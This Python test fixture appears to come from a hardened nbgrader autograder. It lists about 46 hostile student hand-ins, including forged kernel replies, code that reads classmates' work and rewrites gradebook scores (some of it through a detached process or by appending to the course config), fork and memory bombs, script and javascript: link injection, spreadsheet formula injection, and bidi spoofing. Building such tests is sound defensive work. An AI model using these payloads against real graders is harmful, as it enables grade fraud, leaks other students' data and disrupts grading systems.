"""The attacks as hand-ins that are wrong and deserve 0 of 10, for stock nbgrader and for us."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from hashlib import sha256
from pathlib import Path

import stock_traces as traces
from test_attacks import ANSWERS, FIRST, FORGED_LINES, WRONG

NAME = "m99-sample"
# The usual hidden tests, and three other kinds that courses use: a checking library, a hashed answer, and
# partial credit by the value of the cell.
USUAL = {
    "m99-pick": traces.TESTS,
    "m99-share": "assert abs(share(1, 4) - 0.25) < 1e-9\nassert abs(share(3, 8) - 0.375) < 1e-9",
}
HASH = sha256(repr(["b", "d"]).encode()).hexdigest()
OTHER = {
    "m99-pick": "from hashlib import sha256\nfrom numpy.testing import assert_equal\n"
    f"assert_equal(sha256(repr(picked).encode()).hexdigest(), '{HASH}')",
    "m99-share": "6 * (abs(share(1, 4) - 0.25) < 1e-9)",
}
FEEDBACK = (("generate_feedback", NAME),)


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A wrong hand-in, what it does, what it leaves in a stock course, and which test holds it here."""

    number: str
    name: str
    held: str
    first: str = ""
    pick: str = WRONG["m99-pick"]
    share: str = WRONG["m99-share"]
    markdown: str = ""
    tag: str = ""
    double: bool = False
    flags: Mapping[str, object] = field(default_factory=dict)
    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    archive: bool = False
    trainee: str = "trainee"
    hidden: Mapping[str, str] = field(default_factory=lambda: USUAL)
    afterwards: tuple[tuple[str, ...], ...] = ()
    everyone: bool = False
    linger: float = 0.0
    trace: Callable[[Path], str] | None = None


WRONG_STAYS_WRONG = "test_attacks.py::test_a_wrong_submission_stays_wrong"
NO_ANSWER = "test_attacks.py::test_a_forged_value_is_no_answer"

FORGED_SESSION = """
session = get_ipython().kernel.session
send = session.send
def forged(stream, kind, content=None, *arguments, **named):
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return send(stream, kind, content, *arguments, **named)
session.send = forged
"""

READ_COURSE = """
import sqlite3
from pathlib import Path
for path in [*Path("../../..").glob("source/*/*.ipynb"), *Path("../../..").glob("submitted/*/*/*.ipynb"),
             Path("../../../private.txt")]:
    print(path.read_text()[:20_000])
print("GRADEBOOK", sqlite3.connect("../../../gradebook.db").execute("select * from grade").fetchall())
"""

WRITE_SCORES = """
import sqlite3
for path in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
            book.execute("update grade set manual_score = 10")
    except Exception:
        pass
"""

WRITE_SCORES_LATER = """
import subprocess, sys
later = '''
import pathlib, sqlite3, time
def grading():
    for place in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if b"autograde" in place.read_bytes().split(bytes(1)):
                return True
        except OSError:
            pass
for _ in range(120):
    time.sleep(0.5)
    if not grading():
        with sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True) as book:
            book.execute("update grade set manual_score = 10")
        break
'''
subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
"""

WRITE_CONFIGURATION = """
code = "import sqlite3\\nbook = sqlite3.connect('/mnt/gradebook.db')\\n"
code += "book.execute('update grade set manual_score = 10')\\nbook.commit()\\n"
open("../../../nbgrader_config.py", "a").write(code)
"""

SWALLOW_INTERRUPTS = """
import time
while True:
    try:
        time.sleep(60)
    except BaseException:
        continue
"""

# Bounded, and nearly free: memory that is never touched, a file with a hole, children that sleep.
BOMBS = """
import os, time
def taken(what):
    try:
        with open("../../../taken.txt", "a") as stream:
            stream.write(what + "\\n")
    except OSError:
        pass
hoard = bytearray(8 * 2**30)
taken("8 GiB of memory")
with open("big", "wb") as stream:
    stream.truncate(2**30)
taken("a file of 1 GiB")
children = []
for _ in range(300):
    children.append(os.fork())
    if children[-1] == 0:
        time.sleep(15)
        os._exit(0)
taken("300 child processes")
"""

SEND_OUT = """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:8765/answers", timeout=5)
"""

BRUTE_FORCE = """
import re
from hashlib import sha256
from itertools import permutations
from pathlib import Path
wanted = re.search("[0-9a-f]{64}", Path("m99-sample.ipynb").read_text()).group()
picked = next(list(one) for size in range(5) for one in permutations("abcd", size)
              if sha256(repr([*one]).encode()).hexdigest() == wanted)
"""

FALSE_FIGURES = """
from IPython.display import publish_display_data
for _ in range(100):
    publish_display_data({"image/png": "A" * 400_000, "text/plain": "x"})
"""

ATTACKS = (
    *(
        Attack(number=number, name=name.split(" ", 1)[1], first=FIRST[name], held=WRONG_STAYS_WRONG)
        for number in ("A1", "A2", "A3")
        for name in FIRST
        if name.startswith(f"{number} ")
    ),
    Attack(number="A4", name="the kernel's replies forged", first=FORGED_SESSION, held=WRONG_STAYS_WRONG),
    Attack(number="A4", name="forged replies on every open pipe", first=FORGED_LINES, held=WRONG_STAYS_WRONG),
    Attack(
        number="A5",
        name="tracebacks silenced",
        first=FIRST["A5 tracebacks silenced"],
        held=WRONG_STAYS_WRONG,
    ),
    Attack(
        number="A6",
        name="always equal, arithmetic forged",
        pick=ANSWERS["A6 always equal"],
        share="""
class Forged(float):
    def __sub__(self, other): return 0.0
def share(part, whole):
    return Forged(7)
""",
        held=NO_ANSWER,
    ),
    Attack(
        number="A7", name="helpers overridden", first=FIRST["A7 helpers overridden"], held=WRONG_STAYS_WRONG
    ),
    Attack(
        number="A8",
        name="expected value read from the caller",
        share="""
import inspect
def share(part, whole):
    frame = inspect.currentframe().f_back
    numbers = [value for value in frame.f_code.co_consts if isinstance(value, float) and value > 1e-6]
    return numbers[0] if numbers else 7
""",
        held="test_attacks.py::test_a8_no_expected_value_can_be_read_from_the_running_process",
    ),
    Attack(
        number="A9",
        name="a `repr` that is the number of points",
        hidden=OTHER,
        share="""
class Points:
    def __sub__(self, other): return self
    def __abs__(self): return self
    def __lt__(self, other): return self
    def __rmul__(self, other): return self
    def __repr__(self): return "6.0"
def share(part, whole):
    return Points()
""",
        held=NO_ANSWER,
    ),
    Attack(
        number="A10",
        name="gradebook written",
        first=WRITE_SCORES,
        trace=traces.manual_scores,
        held="test_round_trip.py::test_hostile_code_saw_nothing_and_changed_nothing",
    ),
    Attack(
        number="A11",
        name="course files, gradebook and classmates' work printed",
        first=READ_COURSE,
        afterwards=FEEDBACK,
        trace=traces.secrets_in_feedback,
        held="test_attacks.py::test_a10_a11_nothing_of_the_course_can_be_seen",
    ),
    Attack(
        number="A12",
        name="a child outlives the kernel and writes later",
        first=WRITE_SCORES_LATER,
        linger=10.0,
        trace=traces.manual_scores,
        held="test_attacks.py::test_a12_nothing_outlives_the_notebook",
    ),
    Attack(
        number="A13",
        name="checking library patched in the process",
        first=FIRST["A13 checker patched in the process"]
        + "\nimport numpy.testing\nnumpy.testing.assert_equal = lambda *a, **k: None",
        hidden=OTHER,
        held=WRONG_STAYS_WRONG,
    ),
    Attack(
        number="A14",
        name="a forged pickle",
        pick=ANSWERS["A14 a forged pickle"].replace("/tmp/mashura-pwned", "/mnt/pwned"),
        trace=traces.pickled_code,
        held=NO_ANSWER,
    ),
    Attack(
        number="A15", name="libraries shadowed", first=FIRST["A15 shadowed libraries"], held=WRONG_STAYS_WRONG
    ),
    Attack(
        number="A16",
        name="data sent over the network",
        first=SEND_OUT,
        trace=traces.network,
        held="test_attacks.py::test_a16_there_is_no_network",
    ),
    Attack(
        number="A17",
        name="configuration of the course rewritten",
        first=WRITE_CONFIGURATION,
        afterwards=FEEDBACK,
        trace=traces.code_in_configuration,
        held="test_box.py::test_no_door_out_is_left",
    ),
    Attack(
        number="A18",
        name="`os._exit`",
        first=FIRST["A18 os._exit"],
        held="test_attacks.py::test_a18_answers_given_before_the_end_keep_their_marks",
    ),
    Attack(number="A18", name="`exit()`", first=FIRST["A18 exit"], held=WRONG_STAYS_WRONG),
    Attack(
        number="A19",
        name="interrupts swallowed in a loop",
        first=SWALLOW_INTERRUPTS,
        held="test_attacks.py::test_a19_a_loop_that_swallows_interrupts_is_ended_from_outside",
    ),
    Attack(
        number="A20",
        name="200 MB printed",
        first="for _ in range(200):\n    print('x' * 1_000_000)",
        trace=traces.peak_memory,
        held="test_attacks.py::test_a20_a_flood_of_output_is_cut_while_it_is_read",
    ),
    Attack(
        number="A21",
        name="memory, disk and processes (bounded bombs)",
        first=BOMBS,
        trace=traces.taken,
        held="test_box.py::test_500_children_end_that_notebook_and_nothing_else",
    ),
    Attack(
        number="A22",
        name="graded cells doubled",
        double=True,
        everyone=True,
        trace=traces.unmarked_classmate,
        held="test_attacks.py::test_a22_doubled_cells_neither_stop_the_grading_nor_pay",
    ),
    Attack(
        number="A23",
        name="flags of the graded cells flipped",
        flags={"locked": False, "solution": True, "grade": "yes", "schema_version": 1},
        everyone=True,
        trace=traces.unmarked_classmate,
        held="test_attacks.py::test_a23_a24_flags_and_points_come_from_the_assignment",
    ),
    Attack(
        number="A24",
        name="points raised to 1,000",
        flags={"points": 1000},
        held="test_attacks.py::test_a23_a24_flags_and_points_come_from_the_assignment",
    ),
    Attack(
        number="A25",
        name="`<script>` in an output and in Markdown",
        first=f'from IPython.display import HTML\ndisplay(HTML("{traces.SCRIPT}"))',
        markdown=traces.SCRIPT,
        afterwards=FEEDBACK,
        trace=traces.script_in_feedback,
        held="test_round_trip.py::test_feedback_shows_neither_scripts_of_trainees_nor_anything_private",
    ),
    Attack(
        number="A26",
        name="links in the handed-in folder",
        links={"notes.txt": "/mnt/private.txt", "more": "/mnt/source"},
        afterwards=FEEDBACK,
        trace=traces.linked_files,
        held="test_round_trip.py::test_links_in_a_handed_in_folder_are_not_followed",
    ),
    Attack(
        number="A27",
        name="a back-dated time",
        files={"timestamp.txt": "2001-01-01 00:00:00 UTC"},
        trace=traces.forged_time,
        held="test_handin.py::test_a27_time_and_owner_come_from_this_side",
    ),
    Attack(
        number="A28",
        name="the grader detected by a variable",
        first="import os\nif 'NBGRADER_EXECUTION' in os.environ:\n    print('GRADING')",
        trace=traces.knows_grading,
        held="test_attacks.py::test_worker_sees_no_variable_of_the_instructor",
    ),
    Attack(
        number="A29",
        name="a hashed answer, found by trying all",
        hidden=OTHER,
        pick=BRUTE_FORCE,
        held="",
    ),
    Attack(
        number="A30",
        name="answers fitted to the visible cases",
        share="def share(part, whole):\n    return {(1, 4): 0.25, (3, 8): 0.375}.get((part, whole), 7)",
        held=NO_ANSWER,
    ),
    Attack(
        number="A31",
        name="a comma and a formula in a name",
        trainee="=1+1,9",
        afterwards=(("export",),),
        trace=traces.broken_table,
        held="test_formgrader.py::test_lateness_is_what_was_stamped_here_and_the_export_is_safe",
    ),
    Attack(
        number="A32",
        name="direction controls in code",
        pick="picked = ['a'] # \u202e ]'d' ,'b'[ = dekcip \u202c",
        afterwards=FEEDBACK,
        trace=traces.direction_in_feedback,
        held="test_feedback.py::test_a32_code_that_reads_otherwise_than_it_runs_is_made_visible",
    ),
    Attack(
        number="A33",
        name="an archive with paths that lead outside",
        archive=True,
        trace=traces.escaped_file,
        held="test_handin.py::test_an_archive_cannot_write_outside_and_only_the_assignments_files_are_taken",
    ),
    Attack(
        number="A34",
        name="test source shown by tracebacks",
        afterwards=FEEDBACK,
        trace=traces.tests_in_feedback,
        held="test_round_trip.py::test_feedback_shows_neither_scripts_of_trainees_nor_anything_private",
    ),
    *(
        Attack(
            number="A35",
            name=f"`{tag}` on all cells",
            tag=tag,
            held="test_attacks.py::test_a35_tags_change_nothing",
        )
        for tag in ("skip-execution", "raises-exception")
    ),
    Attack(
        number="A36",
        name="all reachable processes killed",
        first=FIRST["A36 killing the grader"],
        held="test_box.py::test_signals_reach_neither_the_grader_nor_the_warm_parent",
    ),
    Attack(
        number="A37",
        name="a link that runs a script, behind an escaped bracket and plain",
        markdown="\\\\[text](javascript:alert(1)) [text](javascript:alert(2))",
        afterwards=FEEDBACK,
        trace=traces.links_in_feedback,
        held="test_clicks.py::test_a37_nothing_of_a_hostile_hand_in_runs_in_the_formgrader",
    ),
    Attack(
        number="A45",
        name="a function that shows its inputs",
        share="""
def share(part, whole):
    print("ASKED", part, whole)
    return 0.25 if (part, whole) == (1, 4) else 7
""",
        afterwards=FEEDBACK,
        trace=traces.inputs_in_feedback,
        held="test_asking.py::test_a45_a_function_that_records_its_inputs_shows_none_of_them",
    ),
    Attack(
        number="A46",
        name="a flood of false figures",
        first=FALSE_FIGURES,
        trace=traces.size_of_notebook,
        held="test_outputs.py::test_a46_a_flood_below_each_cells_limit_is_bounded_in_sum_and_the_graders_memory_stays_flat",
    ),
)
